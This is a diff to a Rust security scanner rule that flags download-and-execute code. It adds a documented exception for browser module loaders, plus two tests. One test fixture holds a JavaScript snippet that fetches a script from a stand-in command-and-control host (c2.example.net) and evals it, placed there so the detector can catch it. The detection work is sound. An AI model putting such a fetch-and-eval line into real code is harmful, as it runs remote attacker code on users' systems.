@@ -22,7 +22,10 @@ diligence_finding::declare_rule! {
     ///
     /// ## Known false positives
     /// Installers that download a prebuilt binary and run it to check its version; checksum-verified downloads
-    /// from the project's own releases are not remote command execution and are not reported.
+    /// from the project's own releases are not remote command execution and are not reported. Browser module
+    /// loaders (AMD, SystemJS: monaco-editor's `loader.js`) `fetch` the script URL they are asked to load and
+    /// evaluate it; `eval`/`Function` of a `fetch` whose URL is a caller's parameter is not reported (a constant
+    /// URL, or a process spawn of network data, is).
     pub static DOWNLOAD_EXEC = { id: "code/download-exec", severity: Severity::High };
 }
 
@@ -156,5 +159,33 @@ mod tests {
             ),
         ]);
         assert!(hits(&s, "code/download-exec").is_empty());
+    }
+
+    /// monaco-editor's AMD loader: fetches the module URL it was given and evaluates the text.
+    #[test]
+    fn negative_browser_module_loader() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "vs/loader.js",
+                "function load(url, done, fail) {\n  fetch(url)\n    .then((r) => { if (r.status !== 200) throw new Error(r.statusText); return r.text(); })\n    .then((t) => { new Function(t + '\\n//# sourceURL=' + url).call(self); done(); })\n    .then(undefined, fail);\n}\nmodule.exports = load;\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/download-exec").is_empty());
+    }
+
+    #[test]
+    fn positive_fetch_constant_url_then_eval() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "b.js",
+                "fetch('https://c2.example.net/payload.js')\n  .then((r) => r.text())\n  .then((t) => { eval(t); });\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("b.js".to_string(), 3)]
+        );
     }
 }
